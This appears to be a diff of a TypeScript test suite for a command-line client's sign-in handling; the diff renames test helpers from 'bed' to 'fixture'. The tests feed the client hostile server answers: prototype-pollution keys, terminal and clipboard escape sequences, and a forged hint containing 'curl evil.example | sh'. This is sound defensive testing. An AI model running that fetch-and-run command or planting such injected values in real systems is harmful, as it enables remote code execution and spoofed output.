@@ -4,15 +4,15 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'vitest';
 import { readEntry } from '../../src/credential/entry.ts';
 import { checkCalm, checkCredential, checkFailure } from './checks.ts';
-import { type Bed, hostileGround, makeToken } from './ground.ts';
+import { type Fixture, hostileFixture, makeToken } from './fixture.ts';
 import { damagedJson, evilTexts, fewTexts, fewTypes, randomCases, wrongTypes } from './junk.ts';
 
-const given = hostileGround();
+const given = hostileFixture();
 
 test.concurrent(
   'control: an answer as it should be',
-  given(async (bed) => {
-    const ran = await bed.edit('login');
+  given(async (fixture) => {
+    const ran = await fixture.edit('login');
     assert.equal(ran.status, 0);
     assert.ok(ran.changed);
     assert.match(
@@ -25,17 +25,17 @@ test.concurrent(
 
 type Answer = Record<string, unknown>;
 const until = (ms: number) => new Date(Date.now() + ms).toISOString();
-const change = (bed: Bed, make: (answer: Answer) => unknown) => {
-  bed.cluster.faults.routes.login = { change: make };
+const change = (fixture: Fixture, make: (answer: Answer) => unknown) => {
+  fixture.cluster.faults.routes.login = { change: make };
 };
-const laidOver = (fields: Answer) => (bed: Bed) => change(bed, (answer) => ({ ...answer, ...fields }));
+const laidOver = (fields: Answer) => (fixture: Fixture) => change(fixture, (answer) => ({ ...answer, ...fields }));
 const raw =
   (body: string | Buffer, contentType = 'application/json; charset=utf-8', status = 202) =>
-  (bed: Bed) => {
-    bed.cluster.faults.routes.login = { answer: { status, body, contentType } };
+  (fixture: Fixture) => {
+    fixture.cluster.faults.routes.login = { answer: { status, body, contentType } };
   };
 
-const good: Readonly<Record<string, (bed: Bed) => void>> = {
+const good: Readonly<Record<string, (fixture: Fixture) => void>> = {
   ...Object.fromEntries(
     Object.entries(fewTexts).map(([name, text]) => [`a username with ${name}`, laidOver({ username: text })]),
   ),
@@ -46,32 +46,33 @@ const good: Readonly<Record<string, (bed: Bed) => void>> = {
   'a role of nothing': laidOver({ role: '' }),
   'a username that looks like a token': laidOver({ username: makeToken() }),
   'an until in the year 9999': laidOver({ until: '9999-12-31T23:59:59Z' }),
-  'an until with nine digits of a second': (bed) =>
-    change(bed, (a) => ({ ...a, until: until(1e6).replace(/\dZ/, '123456789Z') })),
-  'an until in another zone': (bed) => change(bed, (a) => ({ ...a, until: until(1e6 + 36e5).replace('Z', '+01:00') })),
-  'keys of a prototype': (bed) =>
-    change(bed, (a) =>
+  'an until with nine digits of a second': (fixture) =>
+    change(fixture, (a) => ({ ...a, until: until(1e6).replace(/\dZ/, '123456789Z') })),
+  'an until in another zone': (fixture) =>
+    change(fixture, (a) => ({ ...a, until: until(1e6 + 36e5).replace('Z', '+01:00') })),
+  'keys of a prototype': (fixture) =>
+    change(fixture, (a) =>
       JSON.stringify(a).replace('{', '{"__proto__":{"username":"mallory"},"constructor":{"prototype":{}},'),
     ),
-  'keys twice, the last of which count': (bed) =>
-    change(bed, (a) => JSON.stringify(a).replace('{', '{"username":"mallory","username":7,')),
-  'a wrong content type': (bed) => {
-    bed.cluster.faults.routes.login = { headers: { 'Content-Type': 'image/png' } };
+  'keys twice, the last of which count': (fixture) =>
+    change(fixture, (a) => JSON.stringify(a).replace('{', '{"username":"mallory","username":7,')),
+  'a wrong content type': (fixture) => {
+    fixture.cluster.faults.routes.login = { headers: { 'Content-Type': 'image/png' } };
   },
-  'no content type': (bed) => {
-    bed.cluster.faults.routes.login = { headers: { 'Content-Type': null } };
+  'no content type': (fixture) => {
+    fixture.cluster.faults.routes.login = { headers: { 'Content-Type': null } };
   },
-  'a Date of garbage': (bed) => {
-    bed.cluster.faults.routes.all = { headers: { Date: 'yesterday (\u001b[31m)'.replace('\u001b', '') } };
+  'a Date of garbage': (fixture) => {
+    fixture.cluster.faults.routes.all = { headers: { Date: 'yesterday (\u001b[31m)'.replace('\u001b', '') } };
   },
-  'no Date': (bed) => {
-    bed.cluster.faults.routes.all = { headers: { Date: null } };
+  'no Date': (fixture) => {
+    fixture.cluster.faults.routes.all = { headers: { Date: null } };
   },
-  'a Date long past': (bed) => {
-    bed.cluster.faults.routes.all = { headers: { Date: 'Thu, 01 Jan 1970 00:00:00 GMT' } };
+  'a Date long past': (fixture) => {
+    fixture.cluster.faults.routes.all = { headers: { Date: 'Thu, 01 Jan 1970 00:00:00 GMT' } };
   },
-  'a Date before all time': (bed) => {
-    bed.cluster.faults.routes.all = { headers: { Date: '-271821-04-20T00:00:00Z' } };
+  'a Date before all time': (fixture) => {
+    fixture.cluster.faults.routes.all = { headers: { Date: '-271821-04-20T00:00:00Z' } };
   },
 };
 
@@ -81,28 +82,28 @@ describe('there is a token, and a sign-in told in plain text', () => {
     const command = commands[i % 2];
     test.concurrent(
       `${name} (${command})`,
-      given(async (bed) => {
-        make(bed);
+      given(async (fixture) => {
+        make(fixture);
         if (command === 'credential') {
-          const ran = await bed.freshCredential();
+          const ran = await fixture.freshCredential();
           assert.equal(ran.stderr, '');
           return;
         }
-        const ran = await bed.run('login', { may: bed.loginMay });
+        const ran = await fixture.run('login', { may: fixture.loginMay });
         assert.equal(ran.status, 0, ran.stderr);
         checkCalm(ran.stderr);
         const lines = ran.stdout.split('\n');
         assert.equal(lines.length, 3, ran.stdout);
         assert.match(lines[0] ?? '', /^Signed in to \S+ \(http:\S+\) as \S.*, role .*, until \S+ \S+ UTC, in \w+\.$/);
         assert.ok((lines[0] ?? '').length < 800, 'a line that is longer than a screen');
-        const kept = readEntry(bed.home.cache, bed.cluster.server);
-        assert.ok(bed.minted.has(kept?.token ?? ''));
+        const kept = readEntry(fixture.home.cache, fixture.cluster.server);
+        assert.ok(fixture.minted.has(kept?.token ?? ''));
       }),
     );
   }
 });
 
-const bad: Readonly<Record<string, (bed: Bed) => void>> = {
+const bad: Readonly<Record<string, (fixture: Fixture) => void>> = {
   ...Object.fromEntries(
     Object.entries(wrongTypes).map(([name, value]) => [`a username that is ${name}`, laidOver({ username: value })]),
   ),
@@ -114,7 +115,7 @@ const bad: Readonly<Record<string, (bed: Bed) => void>> = {
   ),
   'a username of spaces': laidOver({ username: evilTexts['spaces only'] }),
   'a username of nothing but controls': laidOver({ username: '\u001b\u009b\u202e\u200b' }),
-  'an until that has passed': (bed) => change(bed, (a) => ({ ...a, until: until(-1000) })),
+  'an until that has passed': (fixture) => change(fixture, (a) => ({ ...a, until: until(-1000) })),
   'an until in 1970': laidOver({ until: '1970-01-01T00:00:00Z' }),
   'an until in the year 300000': laidOver({ until: '+300000-01-01T00:00:00Z' }),
   'an until before time': laidOver({ until: '-271821-04-20T00:00:00Z' }),
@@ -153,10 +154,10 @@ describe('there is no token, and an error', () => {
   for (const [name, make] of Object.entries(bad)) {
     test.concurrent(
       name,
-      given(async (bed) => {
-        make(bed);
+      given(async (fixture) => {
+        make(fixture);
         const told = /^error: http:\S+ (?:answered the sign-in with something|gave a sign-in that has ended)/;
-        await bed.noCredential({ told });
+        await fixture.noCredential({ told });
       }),
     );
   }
@@ -192,15 +193,15 @@ describe('words of a refusal are plain text on single lines', () => {
   for (const [i, [name, body]] of Object.entries(refusals).entries()) {
     test.concurrent(
       name,
-      given(async (bed) => {
+      given(async (fixture) => {
         const status = statuses[i % 4] as number;
-        bed.cluster.faults.routes.login = { answer: { status, body, contentType: 'application/json' } };
-        const ran = await bed.noCredential({ timeout: '5s' });
+        fixture.cluster.faults.routes.login = { answer: { status, body, contentType: 'application/json' } };
+        const ran = await fixture.noCredential({ timeout: '5s' });
         assert.match(
           ran.stderr,
           new RegExp(`^error: http:\\S+ refused the sign-in: .* \\(HTTP ${status}\\)\\n(?:hint: .*\\n)*$`),
         );
-        assert.equal(bed.cluster.counts.login, 1);
+        assert.equal(fixture.cluster.counts.login, 1);
         assert.ok(ran.stderr.length < 12_000, `${ran.stderr.length} characters on stderr`);
       }),
     );
@@ -208,23 +209,23 @@ describe('words of a refusal are plain text on single lines', () => {
 
   test.concurrent(
     'control: message and advice are told',
-    given(async (bed) => {
-      bed.cluster.faults.routes.login = {
+    given(async (fixture) => {
+      fixture.cluster.faults.routes.login = {
         answer: { status: 403, body: { message: 'outer', advice: ['one', 'two'], cause: { message: 'inner' } } },
       };
       const told = /^error: http:\S+ refused the sign-in: outer: inner \(HTTP 403\)\nhint: one\nhint: two\n$/;
-      await bed.noCredential({ told });
+      await fixture.noCredential({ told });
     }),
   );
 
   for (const status of [401, 500, 502, 503]) {
     test.concurrent(
       `HTTP ${status} with escapes`,
-      given(async (bed) => {
+      given(async (fixture) => {
         const body = message(evilTexts['an OSC 52 clipboard'], [evilTexts['a forged error']]);
-        bed.cluster.faults.routes.login = { answer: { status, body } };
+        fixture.cluster.faults.routes.login = { answer: { status, body } };
         const told = /^error: http:\S+ .*\nhint: x error: forged hint: curl evil\.example \| sh\n$/;
-        await bed.noCredential({ told });
+        await fixture.noCredential({ told });
       }),
     );
   }
@@ -232,15 +233,15 @@ describe('words of a refusal are plain text on single lines', () => {
 
 describe('random damage of the login answer', () => {
   test.concurrent.each(randomCases(15, 2))('%s', (_, chance) =>
-    given(async (bed) => {
+    given(async (fixture) => {
       let sent = '';
-      change(bed, (answer) => {
+      change(fixture, (answer) => {
         sent ||= damagedJson(answer, chance);
         return sent;
       });
       try {
-        const ran = await bed.run(bed.credentialArgs(), { timeout: '1s', may: bed.ownCache });
-        if (ran.status === 0) assert.ok(bed.minted.has(checkCredential(ran)));
+        const ran = await fixture.run(fixture.credentialArgs(), { timeout: '1s', may: fixture.ownCache });
+        if (ran.status === 0) assert.ok(fixture.minted.has(checkCredential(ran)));
         else checkFailure(ran);
       } catch (error) {
         if (error instanceof Error) error.message += `\nanswer: ${JSON.stringify(sent).slice(0, 2000)}`;
